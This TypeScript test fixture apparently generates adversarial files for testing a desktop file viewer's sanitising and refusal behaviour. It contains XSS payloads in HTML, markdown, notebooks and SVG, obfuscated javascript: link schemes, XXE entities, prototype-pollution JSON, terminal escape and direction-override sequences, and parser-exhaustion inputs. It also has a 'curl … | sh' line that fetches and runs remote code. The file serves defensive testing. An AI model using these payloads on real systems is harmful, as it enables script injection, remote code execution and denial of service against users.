import type { AdversarialFile, Payload } from './adversarial-files.ts';

/** Texts that the desktop displays itself: only markdown contains markup, and it is sanitised. */
export const adversarialTexts = ({ js, far }: Payload): readonly AdversarialFile[] => {
  const page = `<html><body onload="${js}"><script>${js}</script><img src="${far}/t" onerror="${js}"></body></html>`;
  const notebook = {
    nbformat: 4,
    cells: [
      { cell_type: 'markdown', source: [`<script>${js}</script>![](${far}/nb.png)`] },
      { cell_type: 'code', outputs: [{ data: { 'text/html': [page], 'application/javascript': [js] } }] },
    ],
    __proto__x: { ['__proto__']: { polluted: true } },
  };
  const long = (piece: string, length: number): string => piece.repeat(Math.ceil(length / piece.length));
  return [
    { name: 'page.txt', what: 'a web page named text', bytes: page, shows: { words: `onerror="${js}"` } },
    {
      name: 'mark.txt',
      what: 'a byte order mark and a web page',
      bytes: `\uFEFF${page}`,
      shows: { words: '<script>' },
    },
    {
      name: 'seven.txt',
      what: 'UTF-7 and UTF-16 markup',
      bytes: Buffer.concat([Buffer.from('+ADw-script+AD4- seen '), Buffer.from(page, 'utf16le')]),
      shows: 'either',
    },
    {
      name: 'sequences.txt',
      what: 'terminal sequences, NUL bytes and direction signs',
      bytes: `\u001b]0;title\u0007\u001b[31mred\u0000 nul \u202Etxt.exe\u2066 words`,
      shows: { words: 'words' },
    },
    {
      name: 'book.json',
      what: 'a notebook with scripts in its cells',
      bytes: JSON.stringify(notebook),
      shows: { words: 'cells' },
    },
    {
      name: 'proto.json',
      what: 'keys that are names of objects',
      bytes: `{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"a":"</pre><script>${js}</script>"}`,
      shows: { words: 'polluted' },
    },
    {
      name: 'deep.json',
      what: 'lists in lists, a million deep',
      bytes: '['.repeat(1_000_000),
      shows: { words: '[[[[' },
    },
    {
      name: 'run.js',
      what: 'a program',
      bytes: `${js};document.title='taken';import('${far}/m.js')`,
      shows: { words: 'taken' },
    },
    { name: 'run.sh', what: 'a shell program', bytes: `#!/bin/sh\ncurl ${far}/sh | sh\n`, shows: { words: 'curl' } },
    {
      name: 'run.py',
      what: 'a program that breaks out of its colours',
      bytes: `x = "</span><script>${js}</script>"`,
      shows: { words: '</span>' },
    },
    { name: 'slow.js', what: 'comments that never end', bytes: long('/*', 190_000), shows: { words: '/*/*' } },
    {
      name: 'slow.lua',
      what: 'long comments that never end',
      bytes: long('--[[\n', 190_000),
      shows: { words: '--[[' },
    },
    { name: 'slow.java', what: 'a string that never ends', bytes: long('\\"', 190_000), shows: { words: '\\"\\"' } },
    { name: 'slow.py', what: 'a hundred thousand numbers', bytes: long('1 ', 190_000), shows: { words: '1 1 1 1' } },
    {
      name: 'raw.md',
      what: 'markup in markdown',
      bytes: `# Readable title\n\n${page}\n\n<svg onload="${js}"></svg><iframe srcdoc="<script>${js}</script>"></iframe><form action="${far}/f"><button>go</button></form><base href="${far}/"><meta http-equiv="refresh" content="0;url=${far}/m"><link rel="stylesheet" href="${far}/c.css"><style>*{background:url(${far}/s)}</style><object data="${far}/o"></object><video poster="${far}/p" src="${far}/v" autoplay></video>`,
      shows: { words: 'Readable title' },
    },
    {
      name: 'links.md',
      what: 'links that are scripts',
      bytes: `# Readable title\n\n${[
        'javascript:',
        'JaVaScRiPt:',
        'java&#x09;script:',
        'data:text/html,',
        'vbscript:',
        '&#106;avascript:',
        'javascript&colon;',
        '\u0001javascript:',
      ]
        .map((scheme, at) => `[link ${at}](${scheme}${js})  <${scheme}${js}> <a href="${scheme}${js}">raw ${at}</a>`)
        .join('\n\n')}\n\n[ref]\n\n[ref]: javascript:${js}\n`,
      shows: { words: 'Readable title' },
    },
    {
      name: 'pictures.md',
      what: 'pictures of other servers',
      bytes: `# Readable title\n\n![a](${far}/a.png) ![b][b] <img src="${far}/c.png" srcset="${far}/d.png 2x"> [![e](${far}/e.png)](${far}/f)\n\n[b]: ${far}/b.png "<script>${js}</script>"\n`,
      shows: { words: 'Readable title' },
    },
    {
      name: 'clobber.md',
      what: 'ids that hide parts of the page',
      bytes: `# Readable title\n\n<a id="location" name="cookie">x</a><form id="body"><input name="parentNode"></form>\n\n# __proto__\n\n[^1]: foot\n\ntext[^1]\n`,
      shows: { words: 'Readable title' },
    },
    {
      name: 'code.md',
      what: 'a fence that breaks out',
      bytes: `# Readable title\n\n\`\`\`html"><script>${js}</script>\n${page}\n\`\`\`\n`,
      shows: { words: 'Readable title' },
    },
    {
      name: 'quotes.md',
      what: 'quotes in quotes, fifty thousand deep',
      bytes: `${'>'.repeat(50_000)} words`,
      shows: { words: 'words' },
    },
    {
      name: 'stars.md',
      what: 'emphasis that never closes',
      bytes: long('*a **a _a __a ', 400_000),
      shows: { words: '*a **a' },
    },
    { name: 'brackets.md', what: 'brackets that never close', bytes: long('![[', 400_000), shows: { words: '![[![[' } },
  ];
};

/**
 * Files without a viewer on the desktop, or displayed only as a picture. Opening them is refused, and their raw address
 * must be harmless as well.
 */
export const adversarialRawFiles = ({ js, far }: Payload): readonly AdversarialFile[] => {
  const page = `<html><head><base href="${far}/"><meta http-equiv="refresh" content="0;url=${far}/refresh"></head><body onload="${js}"><script>${js}</script><script src="${far}/s.js"></script><img src="${far}/raw" onerror="${js}"><form action="${far}/form"><input autofocus onfocus="${js}"></form><iframe src="${far}/frame"></iframe></body></html>`;
  const drawing = (inner: string, root = ''): string =>
    `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" ${root}>${inner}</svg>`;
  const list: readonly (readonly [name: string, what: string, bytes: string | Uint8Array])[] = [
    ['page.html', 'a web page', page],
    ['page.htm', 'a web page with a null byte', `\0${page}`],
    ['page.xhtml', 'a strict web page', page.replace('<html>', '<html xmlns="http://www.w3.org/1999/xhtml">')],
    ['page.mhtml', 'a web archive', `MIME-Version: 1.0\nContent-Type: text/html\n\n${page}`],
    ['page.hta', 'a web application', page],
    ['book.ipynb', 'a notebook', JSON.stringify({ cells: [{ outputs: [{ data: { 'text/html': page } }] }] })],
    [
      'sheet.xml',
      'a style sheet that makes a page',
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${js}</script></html>`,
    ],
    ['style.css', 'a style that loads others', `@import url(${far}/a.css);*{background:url(${far}/b)}`],
    ['module.mjs', 'a program', `${js};import('${far}/c.js')`],
    ['worker.ts', 'a program that is taken for a film', js],
    ['noname', 'a web page without a suffix', page],
    ['double.jpg.html', 'a web page that looks like a photo', page],
    ['a.svg', 'a drawing with a script', drawing(`<script>${js}</script>`)],
    ['b.svg', 'a drawing that runs when loaded', drawing('', `onload="${js}"`)],
    [
      'c.svg',
      'a drawing with a web page in it',
      drawing(`<foreignObject width="40" height="40">${page}</foreignObject>`),
    ],
    [
      'd.svg',
      'a drawing with pictures and parts of other servers',
      drawing(
        `<image xlink:href="${far}/i"/><use href="${far}/u.svg#a"/><style>@import url(${far}/st);</style><a xlink:href="javascript:${js}"><rect width="40" height="40"/></a><animate attributeName="href" to="javascript:${js}"/>`,
      ),
    ],
    [
      'e.svg',
      'a drawing with entities of its own',
      `<!DOCTYPE svg [<!ENTITY s "${js}"><!ENTITY x SYSTEM "${far}/x">]>${drawing('<script>&s;</script><text>&x;</text>')}`,
    ],
  ];
  return list.map(([name, what, bytes]) => ({ name, what, bytes, shows: 'refusal' }));
};
